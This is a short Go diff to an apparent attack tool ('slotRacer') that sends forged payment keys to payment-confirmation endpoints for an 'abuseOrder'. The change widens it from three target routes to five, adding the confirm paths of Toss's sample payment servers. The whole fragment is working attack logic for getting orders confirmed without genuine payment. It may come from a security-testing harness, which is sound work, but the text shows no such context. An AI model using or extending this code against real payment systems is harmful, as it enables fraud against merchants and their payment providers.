@@ -386,13 +386,16 @@ func (a *slotRacer) thread(ctx context.Context, o abuseOrder) {
 		key := fmt.Sprintf("tgen_20261207000000forged%06d", n)
 		sentAt := time.Now()
 		var r answer
-		switch n % 3 {
+		// Every route that confirms: the success redirect, the API's
+		// confirm, and the three of Toss's sample servers.
+		switch n % 5 {
 		case 0:
 			r = send(a.base, "GET", fmt.Sprintf("/payments/success?orderId=%s&paymentKey=%s&amount=%d", o.id, key, o.amount), nil, nil)
 		case 1:
 			r = send(a.base, "POST", "/payments/confirm", jsonCT, confirmJSON(key, o.id, o.amount, ""))
 		default:
-			r = send(a.base, "POST", "/confirm", jsonCT, confirmJSON(key, o.id, o.amount, ""))
+			path := [...]string{"/confirm", "/confirm/payment", "/confirm/widget"}[n%5-2]
+			r = send(a.base, "POST", path, jsonCT, confirmJSON(key, o.id, o.amount, ""))
 		}
 		if ctx.Err() != nil {
 			return
